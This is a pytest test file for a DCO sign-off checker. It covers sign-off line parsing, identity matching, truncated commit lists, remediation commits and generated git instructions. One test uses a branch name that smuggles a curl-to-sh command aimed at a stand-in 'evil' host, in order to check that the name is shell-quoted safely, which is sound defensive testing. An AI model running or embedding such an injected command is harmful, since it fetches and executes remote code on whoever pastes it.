"""Which commits count as signed off, and what is said of those that do not."""

import pytest

from patchparser.findings import Mode, Verdict
from patchparser.pull import Commit, Identity, Pull
from patchparser.signoff import (
    Match,
    SignOffPolicy,
    find_missing_sign_offs,
    how_to_put_right,
    problem_of,
)

ANN = Identity(name="Ann Dev", email="ann@example.org")
BOB = Identity(name="Bob Roe", email="bob@example.org")
GITHUB = Identity(name="GitHub", email="noreply@github.com")
SIGNED = "Signed-off-by: Ann Dev <ann@example.org>"

GOOD = ""
MISSING = "The sign-off is missing."
MISSPELT = "The sign-off is misspelt: the line begins with `Signed-off-by: `."
MISPLACED = "The sign-off does not stand at the start of a line."
INCOMPLETE = "The sign-off needs both: `Signed-off-by: Name <name@example.org>`."


def other(signer: str) -> str:
    return f"Signed off by `{signer}`, but the commit is by `Ann Dev <ann@example.org>`."


def commit(message: str, **facts) -> Commit:
    facts = {"sha": "a" * 40, "author": ANN, "committer": ANN, **facts}
    return Commit(message=message, **facts)


MESSAGES = [
    # Where the line stands.
    pytest.param(f"Fix\n\n{SIGNED}", GOOD, id="last line, as git writes it"),
    pytest.param(f"Fix\n\n{SIGNED}\n", GOOD, id="with a final newline"),
    pytest.param(f"Fix\r\n\r\n{SIGNED}\r\n", GOOD, id="CRLF"),
    pytest.param(f"Fix\r\r{SIGNED}\r", GOOD, id="lone CR"),
    pytest.param(f"Fix\n\n{SIGNED}\n\nMore prose below.", GOOD, id="prose below"),
    pytest.param(f"{SIGNED}", GOOD, id="the subject itself"),
    pytest.param(f"Fix\n{SIGNED}", GOOD, id="no blank line above"),
    pytest.param(f"Fix\n\n{SIGNED}\n\nCo-authored-by: B <b@x.io>", GOOD, id="co-author below"),
    pytest.param(f"Fix\n\none\ntwo\nthree\nfour\n{SIGNED}", GOOD, id="under a quarter trailers"),
    pytest.param(f"Fix\n\n---\n{SIGNED}", GOOD, id="below a divider"),
    pytest.param(f"Fix\n\n# {SIGNED}", MISPLACED, id="in a comment"),
    pytest.param(f"Fix\n\n {SIGNED}", MISPLACED, id="after a space"),
    pytest.param(f"Fix\n\n\t{SIGNED}", MISPLACED, id="after a tab"),
    pytest.param(f"Fix\n\n> {SIGNED}", MISPLACED, id="quoted"),
    pytest.param(f"Fix\n\nThis is {SIGNED}", MISPLACED, id="inside a sentence"),
    pytest.param(f"Fix\n\n\u2028{SIGNED}", MISPLACED, id="after U+2028"),
    pytest.param(f"Fix\n\ntext\u2028{SIGNED}", MISPLACED, id="U+2028 ends no line"),
    pytest.param(f"Fix\n\ntext\u0085{SIGNED}", MISPLACED, id="U+0085 ends no line"),
    pytest.param(f"Fix\n\ntext\x0c{SIGNED}", MISPLACED, id="form feed ends no line"),
    pytest.param(f"Fix\n\n\ufeff{SIGNED}", MISPLACED, id="after a byte order mark"),
    pytest.param("Fix the parser", MISSING, id="nothing"),
    pytest.param("", MISSING, id="empty message"),
    pytest.param("Fix\n\nSigned off by: Ann Dev <ann@example.org>", MISSPELT, id="key with spaces"),
    pytest.param("Fix\n\nSigned-of-by: Ann Dev <ann@example.org>", MISSPELT, id="key misspelt"),
    pytest.param("Fix\n\nAcked-by: Ann Dev <ann@example.org>", MISSING, id="another trailer"),
    pytest.param("Fix\n\nSigned-off-by Ann Dev <ann@example.org>", MISSPELT, id="no colon"),
    pytest.param("Fix\n\nSign-off-by: Ann Dev <ann@example.org>", MISSPELT, id="sign"),
    pytest.param("Fix\n\nSigned-off-by\uff1a Ann Dev <ann@example.org>", MISSPELT, id="wide colon"),
    pytest.param("Signed off by hand now\n\nMore.", MISSING, id="a subject about signing"),
    pytest.param(
        "Fix\n\nXSigned-off-by: Ann Dev <ann@example.org>", MISPLACED, id="letter before the key"
    ),
    # How the key is written.
    pytest.param("Fix\n\nsigned-off-by: Ann Dev <ann@example.org>", GOOD, id="lower case"),
    pytest.param("Fix\n\nSIGNED-OFF-BY: Ann Dev <ann@example.org>", GOOD, id="upper case"),
    pytest.param("Fix\n\nSigned-Off-By: Ann Dev <ann@example.org>", GOOD, id="title case"),
    pytest.param(f"Fix\n\nDocker-DCO-1.1-{SIGNED}", GOOD, id="docker's prefix"),
    pytest.param(f"Fix\n\ndocker-dco-1.1-{SIGNED.lower()}", GOOD,
                 id="docker's prefix, and a name in lower case"),
    pytest.param(f"Fix\n\nDocker-DCO-1.1-{SIGNED} (github: ann)", GOOD, id="docker's login"),
    pytest.param(f"Fix\n\nDocker-DCO-1x1-{SIGNED}", MISPLACED, id="the prefix's dots are dots"),
    pytest.param("Fix\n\nSigned-off-by:Ann Dev <ann@example.org>", GOOD, id="no space after it"),
    pytest.param("Fix\n\nSigned-off-by:\tAnn Dev <ann@example.org>", GOOD, id="tab after it"),
    pytest.param("Fix\n\nSigned-off-by:  Ann Dev <ann@example.org>", GOOD, id="two spaces"),
    pytest.param("Fix\n\nSigned-off-by : Ann Dev <ann@example.org>", GOOD, id="space before colon"),
    # How name and address are written.
    pytest.param(f"Fix\n\n{SIGNED} (github: ann)", GOOD, id="text after the address"),
    pytest.param(f"Fix\n\n{SIGNED} # really", GOOD, id="comment after the address"),
    pytest.param(f"Fix\n\n{SIGNED}   ", GOOD, id="trailing spaces"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev\n <ann@example.org>", GOOD, id="folded line"),
    pytest.param("Fix\n\nSigned-off-by: Ann  Dev <ann@example.org>", GOOD, id="spaces in the name"),
    pytest.param("Fix\n\nSigned-off-by: Ann\u00a0Dev <ann@example.org>", GOOD, id="no-break space"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev<ann@example.org>", GOOD, id="no space between"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev < ann@example.org >", GOOD, id="spaced address"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <Ann@Example.ORG>", GOOD, id="address's case"),
    pytest.param("Fix\n\nSigned-off-by:", INCOMPLETE, id="key alone"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev", INCOMPLETE, id="no address"),
    pytest.param("Fix\n\nSigned-off-by: ann@example.org", INCOMPLETE, id="address without <>"),
    pytest.param("Fix\n\nSigned-off-by: <ann@example.org>", INCOMPLETE, id="no name"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <>", INCOMPLETE, id="empty address"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <ann@example.org", INCOMPLETE, id="not closed"),
    # Who signed.
    pytest.param("Fix\n\nSigned-off-by: Bob Roe <bob@example.org>",
                 other("Bob Roe <bob@example.org>"), id="somebody else"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <ann@home.org>",
                 other("Ann Dev <ann@home.org>"), id="another address"),
    pytest.param("Fix\n\nSigned-off-by: Ann <ann@example.org>",
                 other("Ann <ann@example.org>"), id="another name"),
    pytest.param("Fix\n\nSigned-off-by: ann dev <ann@example.org>",
                 GOOD, id="a name in another case"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <ann@example.org.>",
                 other("Ann Dev <ann@example.org.>"), id="a dot too many"),
    pytest.param("Fix\n\nSigned-off-by: Ann Dev <1+ann@users.noreply.github.com>",
                 other("Ann Dev <1+ann@users.noreply.github.com>"), id="the noreply address"),
    pytest.param("Fix\n\nSigned-off-by: Bob Roe <bob@example.org>\n" + SIGNED, GOOD,
                 id="one good one of two"),
    pytest.param(SIGNED + "\nSigned-off-by: Bob Roe <bob@example.org>", GOOD,
                 id="the good one first"),
    pytest.param("Fix\n\nSigned-off-by: A <a@x.io>\nSigned-off-by: B <b@x.io>\n"
                 "Signed-off-by: C <c@x.io>",
                 "Signed off by `A <a@x.io>` and `B <b@x.io>` and 1 more,"
                 " but the commit is by `Ann Dev <ann@example.org>`.", id="three others"),
    pytest.param("Fix\n\nSigned-off-by:\n" + SIGNED, GOOD, id="an empty one above a good one"),
]  # fmt: skip


SQUASH = {
    "author": Identity(name="ann", email="1+ann@users.noreply.github.com"),
    "committer": GITHUB,
}


@pytest.mark.parametrize(
    ("message", "facts", "is_good"),
    [
        pytest.param(f"Fix (#12)\n\n{SIGNED}", SQUASH, True, id="squashed by GitHub"),
        pytest.param("Fix (#12)\n\nSigned-off-by: Ann", SQUASH, False, id="not complete"),
        pytest.param("Fix (#12)", SQUASH, False, id="none at all"),
        pytest.param(
            "Fix (#12)\n\nSigned-off-by: GitHub <noreply@github.com>",
            SQUASH,
            False,
            id="GitHub's own",
        ),
        pytest.param(f"Fix\n\n{SIGNED}", SQUASH, False, id="no number of a pull request"),
        pytest.param(f"Fix (#12)\n\n{SIGNED}", {**SQUASH, "committer": BOB}, False, id="by Bob"),
    ],
)
def test_what_github_squashed_needs_any_complete_sign_off(message, facts, is_good):
    assert (problem_of(commit(message, **facts), Match.IDENTITY) == GOOD) is is_good


@pytest.mark.parametrize(
    ("author", "signer", "is_good"),
    [
        ("1+ann@users.noreply.github.com", "ann@users.noreply.github.com", True),
        ("Ann@users.noreply.github.com", "1+ann@users.noreply.github.com", True),
        ("1+ann@users.noreply.github.com", "2+ann@users.noreply.github.com", False),
        ("1+ann@users.noreply.github.com", "1+bob@users.noreply.github.com", False),
        ("ann@users.noreply.github.com", "ann@example.org", False),
        ("zoe\u0308@example.org", "zo\u00eb@example.org", True),
    ],
)
def test_the_addresses_of_one_account_are_one(author, signer, is_good):
    facts = {"author": Identity(name="Ann Dev", email=author), "committer": BOB}
    message = f"Fix\n\nSigned-off-by: Ann Dev <{signer}>"
    assert (problem_of(commit(message, **facts), Match.IDENTITY) == GOOD) is is_good


@pytest.mark.parametrize(("message", "problem"), MESSAGES)
def test_a_message_is_signed_off_or_said_why_not(message, problem):
    assert problem_of(commit(message), Match.IDENTITY) == problem


def test_the_matrix_is_as_large_as_promised():
    assert len(MESSAGES) >= 60


COMMITTERS = [
    pytest.param("Signed-off-by: Bob Roe <bob@example.org>", {"committer": BOB}, True,
                 id="the committer may sign"),
    pytest.param(SIGNED, {"committer": BOB}, True, id="the author may sign"),
    pytest.param("Signed-off-by: Ann Dev <bob@example.org>", {"committer": BOB}, False,
                 id="author's name with committer's address"),
    pytest.param("Signed-off-by: Bob Roe <ann@example.org>", {"committer": BOB}, False,
                 id="committer's name with author's address"),
    pytest.param("Signed-off-by: GitHub <noreply@github.com>", {"committer": GITHUB}, False,
                 id="GitHub as committer signs for nobody"),
    pytest.param("Signed-off-by: GitHub <noreply@github.com>",
                 {"committer": Identity(name="GitHub", email="NoReply@GitHub.com ")}, False,
                 id="nor in other case"),
    pytest.param(SIGNED, {"committer": GITHUB}, True, id="the author of a browser's commit may"),
    pytest.param("Signed-off-by: Zo\u00eb <z@x.io>",
                 {"author": Identity(name="Zoe\u0308", email="z@x.io")}, True, id="NFD author"),
    pytest.param("Signed-off-by: Zoe\u0308 <z@x.io>",
                 {"author": Identity(name="Zo\u00eb", email="z@x.io")}, True, id="NFD sign-off"),
    pytest.param("Signed-off-by: A  B <z@x.io>",
                 {"author": Identity(name=" A\tB ", email=" Z@X.io ")}, True, id="spaced author"),
    pytest.param("Signed-off-by: root <root>",
                 {"author": Identity(name="root", email="root")}, True, id="no @ in the address"),
    pytest.param("no sign-off", {"parents": ("1", "2")}, True, id="merges need none"),
    pytest.param("no sign-off", {"parents": ("1",)}, False, id="one parent is no merge"),
    pytest.param("no sign-off", {"author_is_bot": True}, True, id="bots need none"),
    pytest.param("no sign-off", {"author_login": "evil[bot]"}, False, id="a login makes no bot"),
    pytest.param("Signed-off-by: <>", {"author": Identity(name="", email="")}, False,
                 id="an unknown author is not signed for by nobody"),
]  # fmt: skip


@pytest.mark.parametrize(("message", "facts", "good"), COMMITTERS)
def test_author_and_committer_each_count_as_one_identity(message, facts, good):
    assert (problem_of(commit(message, **facts), Match.IDENTITY) == "") is good


@pytest.mark.parametrize(
    ("message", "match", "good"),
    [
        pytest.param("Signed-off-by: A. Dev <ANN@example.org>", Match.EMAIL, True, id="email"),
        pytest.param("Signed-off-by: Ann Dev <a@x.io>", Match.EMAIL, False, id="other email"),
        pytest.param("Signed-off-by: <ann@example.org>", Match.EMAIL, False, id="email, no name"),
        pytest.param("Signed-off-by: B <b@x.io>", Match.PRESENT, True, id="present"),
        pytest.param("Signed-off-by: B <b>", Match.PRESENT, False, id="present, no address"),
        pytest.param("Signed-off-by: B", Match.PRESENT, False, id="present, no brackets"),
        pytest.param("Fix", Match.PRESENT, False, id="absent"),
        pytest.param("Signed-off-by: G <noreply@github.com>", Match.PRESENT, True, id="anybody"),
    ],
)
def test_match_says_how_much_must_agree(message, match, good):
    assert (problem_of(commit(message), match) == "") is good


def commits(*messages: str, **facts) -> tuple[Commit, ...]:
    return tuple(
        commit(message, sha=f"{number:040x}", **facts)
        for number, message in enumerate(messages, start=1)
    )


def find(listed, pull=None, **settings):
    return find_missing_sign_offs(listed, pull or Pull(), SignOffPolicy(**settings))


def test_every_failing_commit_is_named_and_counted():
    finding = find(commits(SIGNED, "Two", "Three\n\nbody"))
    assert finding.verdict is Verdict.FAIL
    assert finding.summary == "2 of 3 commits are not signed off."
    assert [each.subject for each in finding.commits] == ["Two", "Three"]


def test_all_signed_is_a_pass():
    finding = find(commits(SIGNED, SIGNED), mode=Mode.ADVISORY)
    assert (finding.verdict, finding.mode) == (Verdict.PASS, Mode.ADVISORY)
    assert finding.summary == "All 2 commits are signed off."


def test_a_pull_request_of_merges_alone_passes():
    finding = find(commits("Merge", parents=("1", "2")))
    assert finding.verdict is Verdict.PASS
    assert finding.summary == "Merges and bots' commits need no sign-off."


@pytest.mark.parametrize(
    ("listed", "pull", "summary"),
    [
        pytest.param(None, Pull(), "Not checked: the commits were not given.", id="not given"),
        pytest.param((), Pull(), "Not checked: there are no commits.", id="none"),
        pytest.param(
            commits("x"), Pull(base="release"), "Not checked: this base branch needs no sign-off.",
            id="an exempt base",
        ),
    ],
)  # fmt: skip
def test_what_was_not_checked_is_skipped_and_says_why(listed, pull, summary):
    finding = find(listed, pull, skip_base_branches=("rel*",))
    assert (finding.verdict, finding.summary) == (Verdict.SKIPPED, summary)


CUT = [
    pytest.param(250, 260, SIGNED, Verdict.FAIL,
                 "Only 250 of 260 commits could be seen: those are signed off.", id="cut"),
    pytest.param(250, 260, "x", Verdict.FAIL,
                 "Only 250 of 260 commits could be seen: 250 of those not signed off.",
                 id="cut, and bad"),
    pytest.param(250, None, SIGNED, Verdict.FAIL,
                 "Only the first 250 commits could be seen, there may be more:"
                 " those are signed off.", id="perhaps cut"),
    pytest.param(250, 250, SIGNED, Verdict.PASS, "All 250 commits are signed off.", id="exact"),
    pytest.param(249, None, SIGNED, Verdict.PASS, "All 249 commits are signed off.", id="fewer"),
    pytest.param(251, None, SIGNED, Verdict.PASS, "All 251 commits are signed off.", id="more"),
]  # fmt: skip


@pytest.mark.parametrize(("seen", "count", "message", "verdict", "summary"), CUT)
def test_commits_that_github_cut_off_are_not_taken_for_signed(
    seen, count, message, verdict, summary
):
    finding = find(commits(*[message] * seen), Pull(commit_count=count))
    assert (finding.verdict, finding.summary) == (verdict, summary)


# Remediation

BAD = f"{1:040x}"
OWN = f"I, Ann Dev <ann@example.org>, hereby add my Signed-off-by to this commit: {BAD}"
FOR_ANN = (
    "On behalf of Ann Dev <ann@example.org>, I, Bob Roe <bob@example.org>,"
    f" hereby add my Signed-off-by to this commit: {BAD}"
)
SIGNED_BOB = "Signed-off-by: Bob Roe <bob@example.org>"

REMEDIATIONS = [
    pytest.param(f"Sign\n\n{OWN}\n\n{SIGNED}", ANN, {"individual_remediation": True}, True,
                 id="own"),
    pytest.param(f"Sign\n\n{OWN}\n\n{SIGNED}", ANN, {}, False, id="off by default"),
    pytest.param(f"Sign\n\n{OWN}\n\n{SIGNED}", ANN, {"third_party_remediation": True}, False,
                 id="own, while only third parties may"),
    pytest.param(f"Sign\n\n{OWN}", ANN, {"individual_remediation": True}, False,
                 id="itself not signed off"),
    pytest.param(f"Sign\n\n{OWN}\n\n{SIGNED_BOB}", BOB, {"individual_remediation": True}, False,
                 id="by another author"),
    pytest.param(f"Sign\n\n{OWN[:-1]}\n\n{SIGNED}", ANN, {"individual_remediation": True}, False,
                 id="a shortened sha"),
    pytest.param(f"Sign\n\nso {OWN}\n\n{SIGNED}", ANN, {"individual_remediation": True}, False,
                 id="inside a sentence"),
    pytest.param(f"Sign\n\n{FOR_ANN}\n\n{SIGNED_BOB}", BOB, {"third_party_remediation": True},
                 True, id="on behalf"),
    pytest.param(f"Sign\n\n{FOR_ANN}\n\n{SIGNED_BOB}", BOB, {"individual_remediation": True},
                 False, id="on behalf, while only authors may"),
    pytest.param(f"Sign\n\n{FOR_ANN}\n\n{SIGNED}", ANN, {"third_party_remediation": True}, False,
                 id="on behalf, in another's name"),
]  # fmt: skip


@pytest.mark.parametrize(("message", "author", "settings", "passes"), REMEDIATIONS)
def test_a_later_commit_may_sign_off_earlier_ones(message, author, settings, passes):
    bad = commit("Forgot", sha=BAD)
    later = commit(message, sha="b" * 40, author=author, committer=author)
    finding = find((bad, later), **settings)
    assert (BAD not in {each.sha for each in finding.commits}) is passes


# Instructions


def help_for(listed, pull, **settings):
    policy = SignOffPolicy(**settings)
    return how_to_put_right(find_missing_sign_offs(listed, pull, policy), listed, pull, policy)


def test_instructions_have_the_real_number_of_commits_and_branch():
    found = help_for(commits("One", "Two", SIGNED), Pull(head="feature/x", commit_count=3))
    assert found.commands == (
        "git rebase HEAD~3 --signoff",
        "git push --force-with-lease origin feature/x",
    )


def test_instructions_count_the_commits_nobody_saw():
    found = help_for(commits(*["x"] * 250), Pull(commit_count=300))
    assert found.commands[0] == "git rebase HEAD~300 --signoff"


def test_where_only_unseen_commits_are_in_doubt_no_rebase_is_asked_for():
    found = help_for(commits(*[SIGNED] * 250), Pull(commit_count=300))
    assert found.commands == ()
    assert "GitHub lists no more than 250 commits" in found.before


def test_a_branch_name_cannot_run_anything_when_pasted():
    found = help_for(commits("x"), Pull(head="x;curl$IFS'evil'|sh"))
    assert found.commands[1] == (
        "git push --force-with-lease origin 'x;curl$IFS'\"'\"'evil'\"'\"'|sh'"
    )


def test_with_merges_the_rebase_does_not_rewrite_what_they_brought_in():
    listed = (*commits("One"), commit("Merge main", parents=("1", "2")))
    found = help_for(listed, Pull(base="main", head="x"))
    assert found.commands[:2] == ("git fetch origin main", "git rebase --signoff FETCH_HEAD")


def test_where_remediation_is_allowed_it_comes_before_rewriting():
    found = help_for(commits("One"), Pull(head="x"), individual_remediation=True)
    assert found.commands == (
        f"git commit --allow-empty --signoff -m 'Sign off earlier commits' -m '{OWN}'",
        "git push origin x",
    )
    assert "git rebase HEAD~1 --signoff" in found.after


def test_what_remediation_instructs_is_what_it_accepts():
    bad = commits("One")
    line = help_for(bad, Pull(), individual_remediation=True).commands[0].split(" -m ")[2]
    later = commit(f"Sign\n\n{line[1:-1]}\n\n{SIGNED}", sha="b" * 40)
    assert find((*bad, later), individual_remediation=True).verdict is Verdict.PASS
